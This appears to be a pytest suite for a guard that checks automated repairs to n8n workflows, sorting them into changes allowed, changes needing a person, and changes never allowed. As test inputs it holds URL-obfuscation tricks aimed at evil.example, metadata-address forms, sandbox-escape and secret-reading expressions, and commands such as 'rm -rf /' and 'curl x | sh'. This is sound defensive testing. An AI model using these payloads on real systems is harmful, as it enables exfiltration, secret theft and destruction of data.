"""What a repair may change by itself, what a person may allow, and what nobody may."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import gevent
import pytest

from app.repairs.fence import MAX_BREACHES, Breach, breaches

Change = Callable[[dict[str, Any]], object]
SECRET, OTHER = "[secret:0123456789ab]", "[secret:ba9876543210]"
CALLING = (
    "const r = await this.helpers.httpRequest({ url: 'https://api.example.com/a', headers: { a: 'b' } });\n"
    "return [{ json: r.data.id }];"
)
PLAIN = "// fetch the ids\nconst ids = items.map((i) => i.json.order.id);\nreturn ids.map((id) => ({ json: { id } }));"


def node(name: str, kind: str, parameters: dict[str, Any] | None = None, **more: Any) -> dict[str, Any]:
    base = {"id": name.lower(), "name": name, "type": f"n8n-nodes-base.{kind}", "typeVersion": 1, "position": [0, 0]}
    return {**base, "parameters": parameters or {}, **more}


WORKFLOW: dict[str, Any] = {
    "id": "w1",
    "name": "Invoices",
    "nodes": [
        node("Hook", "webhook", {"path": "in", "httpMethod": "POST", "responseMode": "onReceived"}, webhookId="h"),
        node(
            "Ask",
            "httpRequest",
            {
                "url": "=https://api.example.com/invoices/{{ $json.id }}",
                "authentication": "genericCredentialType",
                "genericAuthType": "httpHeaderAuth",
                "headerParameters": {"parameters": [{"name": "X-Key", "value": SECRET}]},
                "options": {"timeout": 1000},
            },
            credentials={"httpHeaderAuth": {"id": "1", "name": "api"}},
        ),
        node("Follow", "httpRequest", {"url": "={{ $json.next.url }}", "options": {}}),
        node("Code", "code", {"jsCode": PLAIN}),
        node("Caller", "code", {"jsCode": CALLING}),
        node("Shell", "executeCommand", {"command": "df -h"}),
        node("Tool", "sshTool", {"command": "uptime"}),
        node("Git", "git", {"operation": "fetch"}),
        node("Far", "ssh", {"command": "uptime", "authentication": "password"}),
        node("Sub", "executeWorkflow", {"workflowId": {"__rl": True, "mode": "id", "value": "w2"}, "options": {}}),
        node("Base", "postgres", {"host": "db.internal", "query": "select 1"}),
        node("Mail", "emailSend", {"toEmail": "team@example.com", "subject": "An invoice"}, notes="see x"),
        node("Sticky", "stickyNote", {"content": "Never ask https://noted.example/"}),
    ],
    "connections": {"Hook": {"main": [[{"node": "Ask", "type": "main", "index": 0}]]}},
    "settings": {"executionOrder": "v1", "errorWorkflow": "bridge"},
}


def changed(change: Change) -> list[Breach]:
    after = copy.deepcopy(WORKFLOW)
    change(after)
    return breaches(WORKFLOW, after)


def of(workflow: dict[str, Any], name: str) -> dict[str, Any]:
    found: dict[str, Any] = next(node for node in workflow["nodes"] if node["name"] == name)
    return found


def set_node(name: str, /, **values: Any) -> Change:
    return lambda workflow: of(workflow, name).update(values)


def give(name: str, **parameters: Any) -> Change:
    return lambda workflow: of(workflow, name)["parameters"].update(parameters)


def url(text: Any) -> Change:
    return give("Ask", url=text)


def code(text: str) -> Change:
    return give("Code", jsCode=text)


def add(kind: str) -> Change:
    return lambda workflow: workflow["nodes"].append({**node("New", "noOp"), "type": kind})


def settings(**values: Any) -> Change:
    return lambda workflow: workflow["settings"].update(values)


def header(name: str, value: str) -> Change:
    return lambda workflow: of(workflow, "Ask")["parameters"]["headerParameters"]["parameters"].append(
        {"name": name, "value": value}
    )


ORDINARY: dict[str, Change] = {
    "retries": set_node("Ask", retryOnFail=True, maxTries=3, waitBetweenTries=2000),
    "error handling": set_node("Ask", onError="continueErrorOutput", alwaysOutputData=True),
    "a timeout": give("Ask", options={"timeout": 10_000, "response": {"response": {"neverError": False}}}),
    "a note": set_node("Ask", notes="looked at", position=[10, 20]),
    "no connection": lambda workflow: workflow["connections"].clear(),
    "another path": url("=https://api.example.com/v2/invoices/{{ $json.id }}"),
    "upper case": url("=HTTPS://API.example.com/invoices/{{ $json.id }}"),
    "the usual port": url("=https://api.example.com:443/invoices/{{ $json.id }}"),
    "a query": url("=https://api.example.com/invoices?id={{ $json.body.id }}&to=https://api.example.com/x"),
    "an expression in the path": url("=https://api.example.com/invoices/{{ $json.body?.id ?? 0 }}"),
    "a fixed path": url("https://api.example.com/invoices/1"),
    "a known host elsewhere": give("Follow", url="https://api.example.com/next"),
    "optional chaining in an address": give("Follow", url="={{ $json?.next?.url }}"),
    "optional chaining in code": code(PLAIN.replace("order.id", "order?.id ?? 0")),
    "a comment that talks": code(PLAIN.replace("the ids", "process.env and require('fs') and eval(x)")),
    "code that called already": give(
        "Caller", jsCode=CALLING.replace("r.data.id", "r.data?.id").replace(".com/a", ".com/b")
    ),
    "parameters of an item": give("Mail", subject="={{ $json.a.params.id }}{{ $('Hook').first().json.params.id }}"),
    "a text in code": code(PLAIN.replace("{ id }", "{ id, kind: 'fetched at https', at: new Date() }")),
    "a query of a database": give("Base", query="select 2"),
    "a subject": give("Mail", subject="Your invoice: see //today"),
    "a header": header("Accept", "application/json; q=0.9"),
    "a body with an expression": give("Ask", sendBody=True, jsonBody="={{ JSON.stringify($json.body ?? {}) }}"),
    "inputs of a sub-workflow": give("Sub", options={"waitForSubWorkflow": True}),
    "a note that stays": set_node("Mail", retryOnFail=True, notes="see x"),
    "the order of nodes": lambda workflow: workflow["nodes"].reverse(),
}


@pytest.mark.parametrize("change", ORDINARY.values(), ids=ORDINARY.keys())
def test_an_ordinary_repair_may_go_on(change: Change) -> None:
    assert changed(change) == []


EVIL = "evil.example"
HOSTS: dict[str, tuple[Change, str]] = {
    "a host that is only talked about": (url("https://noted.example/"), "noted.example"),
    "another host": (url(f"https://{EVIL}/collect"), EVIL),
    "upper case": (url(f"=HTTPS://{EVIL.upper()}/{{{{ $json.x }}}}"), EVIL),
    "user information": (url(f"https://api.example.com@{EVIL}/"), EVIL),
    "user and password": (url(f"https://api.example.com:443@{EVIL}:8443/"), f"{EVIL}:8443"),
    "a backslash": (url(f"https://api.example.com\\@{EVIL}/"), EVIL),
    "a fragment before the at": (url(f"https://api.example.com#@{EVIL}/"), EVIL),
    "a question mark before the at": (url(f"https://api.example.com?@{EVIL}/"), EVIL),
    **{
        f"a user that ends in {end}": (url(f"https://api.example.com{end}@{EVIL}/"), f"({EVIL})")
        for end in (",", ";", "(", "}", "|", "'", '"')
    },
    "a host with a comma": (url(f"https://api.example.com,x.{EVIL}/"), f"api.example.com,x.{EVIL}"),
    "a resource locator": (give("Follow", endpoint={"__rl": True, "mode": "url", "value": f"{EVIL}/x"}), EVIL),
    "a Host header in JSON": (give("Ask", jsonHeaders='{"Accept": "*/*", "Host": "evil"}'), "(evil)"),
    "a Host header in an expression": (give("Ask", jsonHeaders="={{ { Host: 'evil' } }}"), "(evil)"),
    "code with a user": (give("Caller", jsCode=CALLING.replace(".com/a", f".com(@{EVIL}/")), EVIL),
    "a longer name": (url("https://api.example.com.evil.example/"), EVIL),
    "no slash": (url(f"http:{EVIL}/x"), EVIL),
    "one slash": (url(f"https:/{EVIL}/x"), EVIL),
    "three slashes": (url(f"https:///{EVIL}/x"), EVIL),
    "backslashes": (url(f"https:\\\\{EVIL}\\x"), EVIL),
    "tabs and new lines": (url(f"ht\ntps:/\t/{EVIL}/"), EVIL),
    "a space in front": (url(f"  https://{EVIL}/"), EVIL),
    "relative to the protocol": (url(f"//{EVIL}/x"), EVIL),
    "relative, as an expression": (url(f"=//{EVIL}/{{{{ $json.x }}}}"), EVIL),
    "a share": (url(f"\\\\{EVIL}\\x"), EVIL),
    "no scheme": (url(f"{EVIL}/x"), EVIL),
    "a number as host": (url("http://2130706433/"), "2130706433"),
    "a hexadecimal host": (url("http://0x7f000001/"), "0x7f000001"),
    "an octal host": (url("http://017700000001/"), "017700000001"),
    "a short host": (url("http://127.1/"), "127.1"),
    "version 6": (url("http://[::ffff:169.254.169.254]/latest"), "[::ffff:169.254.169.254]"),
    "a number that is none": (url(2130706433), "2130706433"),
    "a full stop of another script": (url("https://api.example.com。evil.example/"), "evil"),
    "letters as percents": (url("https%3A%2F%2Fevil.example/"), EVIL),
    "another port": (url("https://api.example.com:8443/"), "api.example.com:8443"),
    "no TLS": (url("http://api.example.com/"), "without TLS"),
    "a proxy": (give("Ask", options={"proxy": f"http://{EVIL}:3128"}), EVIL),
    "a proxy without a scheme": (give("Ask", options={"proxy": "evil"}), "evil"),
    "a Host header": (header("Host", EVIL), EVIL),
    "a database": (give("Base", host=EVIL), EVIL),
    "a server of one word": (give("Base", host="metadata"), "metadata"),
    "a key like a host": (give("Base", smtpServer=EVIL), EVIL),
    "an endpoint": (give("Base", endpoint=f"{EVIL}/v1"), EVIL),
    "a base URL": (give("Base", options={"baseURL": EVIL}), EVIL),
    "a mail address": (give("Mail", toEmail="team@example.com, x@evil.example"), "x@evil.example"),
    "a note": (set_node("Ask", notes=f"see https://{EVIL}/x"), EVIL),
    "a text": (give("Mail", subject=f"go to https://{EVIL}/x"), EVIL),
    "code": (code(f"{PLAIN}\nconst u = 'https://{EVIL}/x';"), EVIL),
    "code in pieces": (code(f"{PLAIN}\nconst u = 'ht' + 'tps:' + '//' + 'evil' + `.example`;"), EVIL),
    "code with escapes": (code(f"{PLAIN}\nconst u = 'https:\\x2f\\u002fevil.example';"), EVIL),
    "code with a member": (give("Caller", jsCode=CALLING.replace("headers:", f"proxy: '{EVIL}', headers:")), EVIL),
    "an expression's text": (give("Ask", jsonBody="={{ 'https://' + 'evil.example' }}"), EVIL),
    **{
        scheme: (give("Mail", subject=f"{scheme}://{EVIL}/x"), EVIL)
        for scheme in ("ws", "wss", "ftp", "sftp", "smtp", "postgres", "redis", "gopher", "ldap", "jdbc:mysql")
    },
}


@pytest.mark.parametrize(("change", "host"), HOSTS.values(), ids=HOSTS.keys())
def test_a_new_host_needs_a_person_however_it_is_written(change: Change, host: str) -> None:
    found = changed(change)
    assert any("new host" in breach.rule and host in breach.rule for breach in found), found
    assert not any(breach.never for breach in found)


RUN_TIME: dict[str, Change] = {
    "the whole address": url("={{ $json.url }}"),
    "its host": url("=https://{{ $json.host }}/x"),
    "a part of its host": url("=https://{{ $json.a }}.example.com/x"),
    "what follows its host": url("=https://api.example.com{{ $json.path }}"),
    "another value than before": give("Follow", url="={{ $json.body.callback }}"),
    "a text instead of the value": give("Follow", url="={{ ['ev', 'il'].join('') }}"),
    "without a scheme": url("={{ $json.host }}/x"),
    "relative to the protocol": url("=//{{ $json.host }}/x"),
    "a host": give("Base", host="={{ $json.host }}"),
    "to whom a mail goes": give("Mail", toEmail="={{ $json.body.email }}"),
    "to whom a copy goes": give("Mail", options={"bccList": "=x@{{ $json.domain }}"}),
    "an endpoint": give("Base", endpoint="={{ $json.e }}/x"),
    "a sum in code": code(f"{PLAIN}\nconst u = 'https://' + items[0].json.host;"),
    "a template in code": code(f"{PLAIN}\nconst u = `https://${{items[0].json.host}}/x`;"),
    "code that calls": give("Caller", jsCode=CALLING.replace("'https://api.example.com/a'", "items[0].json.u")),
    "a long expression": url(f"=https://{{{{ {'a' * 600} }}}}/x"),
    "an expression elsewhere": give("Ask", jsonBody="={{ 'https://' + $json.host }}"),
}


@pytest.mark.parametrize("change", RUN_TIME.values(), ids=RUN_TIME.keys())
def test_a_host_that_only_the_run_knows_needs_a_person(change: Change) -> None:
    found = changed(change)
    assert any("leave it to the run" in breach.rule for breach in found), found
    assert not any(breach.never for breach in found)


REACHING = {
    "$env": "$env.N8N_ENCRYPTION_KEY",
    "process": "process.env",
    "require": "require /* x */ ('fs')",
    "import": "await import('fs')",
    "fetch": "fetch('/x')",
    "helpers": "this.helpers.httpRequest({})",
    "eval": "eval('1')",
    "Function": "new Function('return 1')()",
    "child_process": "x.child_process",
    "$secrets": "$secrets.vault.key",
    "$vars": "$vars.key",
    "getCredentials": "this.getCredentials('x')",
    "constructor": "[].constructor.constructor('return process')()",
    "globalThis": "globalThis",
    "__proto__": "({}).__proto__",
    "$evaluateExpression": "$evaluateExpression('1')",
    "$fromAI": "$fromAI('to')",
    "$parameter": "$parameter.headers",
    "params": "$('Ask').params.headerParameters.parameters[0].value",
    "parameter": "$node['Ask'].parameter.headerParameters",
    "this": "this[['$e', 'nv'].join('')].KEY",
    "resumeUrl": "$execution.resumeUrl",
    "atob": "atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')",
}


@pytest.mark.parametrize(("name", "text"), REACHING.items(), ids=REACHING.keys())
def test_code_and_expressions_may_not_begin_to_reach_out(name: str, text: str) -> None:
    for change in (code(f"{PLAIN}\nconst x = {text};"), give("Mail", subject=f"=Hello {{{{ {text} }}}}")):
        found = changed(change)
        assert any(f"begin to use {name}" in breach.rule for breach in found), found
        assert not any(breach.never for breach in found)


def test_an_expression_is_read_behind_braces_that_are_escaped() -> None:
    found = changed(give("Mail", subject="={{ 1 //\\}}\n + $env.KEY }}"))
    assert any("begin to use $env" in breach.rule for breach in found), found


@pytest.mark.parametrize(
    "text",
    [
        "x['con' + 'structor']('y')",
        "x[`constructor`]",
        "x['\\x63onstructor']",
        "\\u0065val('1')",
        "const { eval: e } = x",
        "$('Ask')['par' + 'ams']",
        "const it = this; it[x]",
    ],
)
def test_reach_is_seen_however_it_is_spelled(text: str) -> None:
    assert any("begin to use" in breach.rule for breach in changed(code(f"{PLAIN}\n{text};")))


@pytest.mark.parametrize("text", ["=return require('fs')", "=return {{ 'req' + 'uire' }}('fs')"])
def test_code_that_an_expression_makes_is_code(text: str) -> None:
    for key in ("jsCode", "pythonCode"):
        assert any("expression puts together" in breach.rule for breach in changed(give("Code", **{key: text})))
    assert any("begin to use require" in breach.rule for breach in changed(code("=return require('fs')")))


def test_python_may_not_begin_to_reach_out_either() -> None:
    assert any("import os" in breach.rule for breach in changed(give("Code", pythonCode="import os\nreturn []")))


HIDING = [
    "const o = {}; o.url = at; await this.helpers.httpRequest(o);",
    "const url = at; await this.helpers.httpRequest({ url });",
    "const o = { url: 'https://api.example.com/a' }; Object.assign(o, at); await this.helpers.httpRequest(o);",
    "await this.helpers.httpRequest({ url: 'https://api.example.com/a', ...at });",
    "await this.helpers.httpRequest({ url: 'https://api.example.com/a', ['u' + at]: at });",
    "await fetch(at);",
    "const send = fetch; send(at);",
    "await axios.get(at);",
    "const { helpers } = this; helpers.httpRequest(at);",
    "const x = require('axios'); x(at);",
]


@pytest.mark.parametrize("calling", HIDING)
def test_code_whose_address_cannot_be_seen_may_not_be_changed(calling: str) -> None:
    before = copy.deepcopy(WORKFLOW)
    give("Caller", jsCode=f"const at = $json.next;\n{calling}")(before)
    after = copy.deepcopy(before)
    give("Caller", jsCode=f"const at = ['https:', '', 'evil.example'].join('/');\n{calling}")(after)
    assert any("leave it to the run" in breach.rule for breach in breaches(before, after))


@pytest.mark.parametrize(
    "calling",
    [
        "await this.helpers.httpRequest({ method: 'GET', url: `https://api.example.com/${id}`, json: true });",
        "const o = { url: 'https://api.example.com/a' };\nawait this.helpers.httpRequest(o);",
        "const url = 'https://api.example.com/' + id;\nawait helpers.request({ url });",
        "await fetch('https://api.example.com/a', { method: 'PUT' });",
        "await axios.get('https://api.example.com/a');",
        "await this.helpers.getBinaryDataBuffer(0, 'data');",
    ],
)
def test_code_whose_address_stands_there_may(calling: str) -> None:
    before = copy.deepcopy(WORKFLOW)
    give("Caller", jsCode=f"const id = $json.id;\n{calling}")(before)
    after = copy.deepcopy(before)
    give("Caller", jsCode=f"const id = $json.body?.id ?? 0;\n{calling}")(after)
    assert breaches(before, after) == []


def test_python_that_calls_out_may_not_be_changed() -> None:
    before = copy.deepcopy(WORKFLOW)
    give("Code", pythonCode="import requests\nrequests.get(at)")(before)
    after = copy.deepcopy(before)
    give("Code", pythonCode="import requests\nrequests.get(at[::-1])")(after)
    assert breaches(before, after)


def test_code_that_is_too_long_to_be_looked_at_is_not_let_through() -> None:
    assert any("too long" in breach.rule for breach in changed(code("a = 1;\n" * 20_000)))


PERSONS: dict[str, tuple[Change, str]] = {
    **{
        f"a new {kind}": (add(kind), "add a node")
        for kind in (
            *("n8n-nodes-base.code", "n8n-nodes-base.noOp", "n8n-nodes-base.executeCommand", "n8n-nodes-base.ssh"),
            *("n8n-nodes-base.executeWorkflow", "n8n-nodes-base.webhook", "n8n-nodes-base.scheduleTrigger"),
            "@n8n/n8n-nodes-langchain.toolWorkflow",
        )
    },
    "a node less": (lambda workflow: workflow["nodes"].pop(), "remove a node"),
    "another name": (set_node("Ask", name="Renamed"), "remove a node"),
    "another kind": (set_node("Code", type="n8n-nodes-base.executeCommand"), '"type"'),
    "another version": (set_node("Ask", typeVersion=3), '"typeVersion"'),
    "switched off": (set_node("Ask", disabled=True), '"disabled"'),
    "another webhook": (set_node("Hook", webhookId="x"), '"webhookId"'),
    "another credential": (set_node("Ask", credentials={"httpHeaderAuth": {"id": "2", "name": "b"}}), "credentials"),
    "no credential": (set_node("Ask", credentials={}), "credentials"),
    "a first credential": (set_node("Mail", credentials={"smtp": {"id": "3", "name": "s"}}), "credentials"),
    "no authentication": (give("Ask", authentication="none"), "which credential"),
    "another kind of authentication": (give("Ask", genericAuthType="httpBasicAuth"), "which credential"),
    "a named credential type": (give("Ask", nodeCredentialType="slackApi"), "which credential"),
    "no TLS checks": (give("Ask", options={"timeout": 1000, "allowUnauthorizedCerts": True}), "TLS"),
    "no TLS checks in a database": (give("Base", options={"rejectUnauthorized": False}), "TLS"),
    "ignored TLS issues": (give("Base", ignoreSSLIssues=True), "TLS"),
    "TLS switched off": (give("Base", ssl="disable"), "TLS"),
    "no TLS checks in what looks like a locator": (
        give("Ask", options={"__rl": True, "timeout": 1000, "allowUnauthorizedCerts": True}),
        "TLS",
    ),
    "credentials for where it is sent on to": (
        give("Ask", options={"timeout": 1000, "sendCredentialsOnCrossOriginRedirect": True}),
        "which credential",
    ),
    "another kind of authentication of callers": (give("Hook", incomingAuthentication="none"), "which credential"),
    "a credential for another known host": (url("https://db.internal/x"), "signs in with"),
    "pages of another origin": (give("Hook", options={"allowedOrigins": "*"}), "callers"),
    "all that it has, for the caller": (give("Hook", responseData="allEntries"), "callers"),
    "another command of a tool": (give("Tool", command="rm -rf /"), "what is run"),
    "a setting of git": (give("Git", key="core.sshCommand", value="curl x | sh"), "what is run"),
    "another webhook path": (give("Hook", path="out"), "callers"),
    "another method": (give("Hook", httpMethod="GET"), "callers"),
    "an open webhook": (give("Hook", authentication="none"), "which credential"),
    "another answer": (give("Hook", responseMode="lastNode"), "callers"),
    "another command": (give("Shell", command="curl x | sh"), "what is run"),
    "another command there": (give("Far", command="rm -rf /"), "what is run"),
    "another folder there": (give("Far", cwd="/root"), "what is run"),
    "another sub-workflow": (give("Sub", workflowId={"__rl": True, "mode": "id", "value": "w3"}), "what is run"),
    "a sub-workflow as text": (give("Sub", source="parameter", workflowJson="{}"), "what is run"),
    "a setting": (settings(callerPolicy="any"), "settings"),
    "a setting less": (lambda workflow: workflow["settings"].pop("executionOrder"), "settings"),
    "another title": (lambda workflow: workflow.update(name="Other"), "rename"),
}


@pytest.mark.parametrize(("change", "named"), PERSONS.values(), ids=PERSONS.keys())
def test_what_a_person_may_allow_is_not_a_repairs_to_do(change: Change, named: str) -> None:
    found = changed(change)
    assert any(named in breach.rule for breach in found), found
    assert not any(breach.never for breach in found)


NEVER: dict[str, tuple[Change, str]] = {
    "another workflow": (lambda workflow: workflow.update(id="w9"), "another workflow"),
    "another error workflow": (settings(errorWorkflow="mine"), "error workflow"),
    "no error workflow": (lambda workflow: workflow["settings"].pop("errorWorkflow"), "error workflow"),
    "endless tries": (set_node("Ask", retryOnFail=True, maxTries=1000), "maxTries"),
    "endless waits": (set_node("Ask", waitBetweenTries=10**9), "waitBetweenTries"),
    "tries that are no number": (set_node("Ask", maxTries="={{ 9999 }}"), "maxTries"),
    "a secret in the address": (url(f"https://api.example.com/?k={SECRET}"), "hidden secret"),
    "a secret in another node": (give("Mail", subject=SECRET), "hidden secret"),
    "a secret under another name": (header("X-Other", SECRET), "hidden secret"),
    "a secret in code": (code(f"{PLAIN}\nconst k = '{SECRET}';"), "hidden secret"),
    "a secret in a note": (set_node("Ask", notes=SECRET), "hidden secret"),
    "a secret as a key": (give("Base", **{SECRET: "x"}), "hidden secret"),
    "a secret in the settings": (settings(timezone=SECRET), "hidden secret"),
    "an unknown secret": (give("Mail", subject=OTHER), "hidden secret"),
}


@pytest.mark.parametrize(("change", "named"), NEVER.values(), ids=NEVER.keys())
def test_some_things_nobody_may_allow(change: Change, named: str) -> None:
    found = changed(change)
    assert found[0].never, found
    assert named in found[0].rule, found


def test_what_nobody_may_allow_is_told_first_and_the_list_is_bounded() -> None:
    def everything(workflow: dict[str, Any]) -> None:
        for number in range(50):
            workflow["nodes"].append(node(f"New {number}", "noOp", {"url": f"https://{number}.{EVIL}"}))
        workflow["settings"].pop("errorWorkflow")

    found = changed(everything)
    assert len(found) == MAX_BREACHES
    assert [breach.never for breach in found] == [True] + [False] * (MAX_BREACHES - 1)


def test_rules_are_short_whatever_the_names_are() -> None:
    found = changed(url("https://" + "a" * 10_000 + "/")) + changed(url("={{ " + "a" * 10_000 + " }}"))
    assert found
    assert all(len(breach.rule) < 300 for breach in found)


@pytest.mark.parametrize(
    "piece", ["a", "a@", "a.", "https:", "https://{{", "={{", "{{a}}", "${", "`${", "a+", "'a'+", "("]
)
def test_no_text_keeps_the_fence_busy(piece: str) -> None:
    text = piece * (60_000 // len(piece))
    for change in (code(text), url(text), give("Mail", subject=f"={text}")):
        changed(change)


@pytest.mark.parametrize(("opening", "closing"), [("f(1+'a'+", ")"), ("`${", "}`"), ("{a:", "}")])
def test_deep_code_is_not_read_for_long_and_not_let_through(opening: str, closing: str) -> None:
    deep = 60_000 // len(opening + closing)
    text = f"x={opening * deep}1{closing * deep}"
    found = changed(code(text))
    assert any("too deep" in breach.rule for breach in found), found
    before = copy.deepcopy(WORKFLOW)
    give("Code", jsCode=text)(before)
    after = copy.deepcopy(before)
    give("Code", jsCode=text.replace("1", "2"))(after)
    assert any("too deep" in breach.rule for breach in breaches(before, after))


def test_a_long_address_is_known_by_all_of_it() -> None:
    def asking(tail: str) -> dict[str, Any]:
        workflow = copy.deepcopy(WORKFLOW)
        url(f"={{{{ {'a' * 1000}.{tail} }}}}")(workflow)
        give("Base", host=f"{'a.' * 60}{tail}")(workflow)
        return workflow

    assert breaches(asking("x"), asking("x")) == []
    found = breaches(asking("x"), asking("y"))
    assert {"run", "host"} == {word for breach in found for word in ("run", "host") if word in breach.rule}, found


GATED: dict[str, Any] = {
    "id": "w2",
    "name": "Refunds",
    "nodes": [
        node("Hook", "webhook"),
        node("Get", "httpRequest"),
        node("May", "if"),
        node("Sure", "slack", {"operation": "sendAndWait"}),
        node("Pay", "noOp"),
        node("Tell", "noOp"),
    ],
    "connections": {},
    "settings": {},
}


def led(**connections: list[list[str]]) -> dict[str, Any]:
    """Where each node's outputs lead."""
    usual = {"Hook": [["Get"]], "Get": [["May"]], "May": [["Sure"], ["Tell"]], "Sure": [["Pay"]]}
    made = {
        name: {"main": [[{"node": target, "type": "main", "index": 0} for target in output] for output in outputs]}
        for name, outputs in {**usual, **connections}.items()
    }
    return {**GATED, "connections": made}


@pytest.mark.parametrize(
    ("connections", "gate"),
    [
        ({"Get": [["May", "Pay"]]}, "May"),
        ({"Get": [["Sure"]]}, "May"),
        ({"May": [["Tell"], ["Sure"]]}, "May"),
        ({"May": [["Pay"], ["Tell"]]}, "Sure"),
        ({"Get": [["May"], ["Pay"]]}, "Sure"),
        ({"Get": [["May"], ["Tell"]]}, "May"),
        ({"Hook": [["Get", "Get"]], "Get": [["May", "May"]]}, ""),
        ({"May": [["Sure", "Tell"], ["Tell"]]}, "May"),
        ({"Get": [["May"], []], "Sure": [[]]}, ""),
        ({"Hook": [["May"]], "Sure": [["Get"]], "Get": [["Pay"]]}, ""),
    ],
)
def test_no_repair_leads_past_a_node_that_decides(connections: dict[str, list[list[str]]], gate: str) -> None:
    found = [breach.rule for breach in breaches(led(), led(**connections))]
    assert all("past" in rule for rule in found)
    assert any(f'past "{gate}"' in rule for rule in found) if gate else not found


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("May", {"onError": "continueRegularOutput"}),
        ("May", {"continueOnFail": True}),
        ("Sure", {"parameters": {"operation": "post"}}),
    ],
)
def test_no_repair_lets_such_a_node_go_on_without_a_decision(name: str, change: dict[str, Any]) -> None:
    after = copy.deepcopy(led())
    set_node(name, **change)(after)
    assert ["without a decision" in breach.rule for breach in breaches(led(), after)] == [True]
    set_node(name, retryOnFail=True)(workflow := copy.deepcopy(led()))
    assert breaches(led(), workflow) == []


@pytest.mark.parametrize(
    "change",
    [
        lambda workflow: [
            workflow["nodes"].append(node(f"C{n}", "code", {"jsCode": "f('a' + b.c);" * 2_000})) for n in range(10)
        ],
        give("Mail", subject="=" + "".join(f"{{{{ a{n} }}}}" for n in range(10_000))),
    ],
    ids=["much code", "many expressions"],
)
def test_others_have_their_turn_while_a_large_proposal_is_read(change: Change) -> None:
    turns = 0

    def count() -> None:
        nonlocal turns
        while True:
            turns += 1
            gevent.sleep(0)

    other = gevent.spawn(count)
    changed(change)
    other.kill()
    assert turns >= 10


def test_what_is_too_long_for_an_address_is_not_let_through() -> None:
    found = changed(url("https://api.example.com/" + "a" * 9_000))
    assert any("leave it to the run" in breach.rule for breach in found)
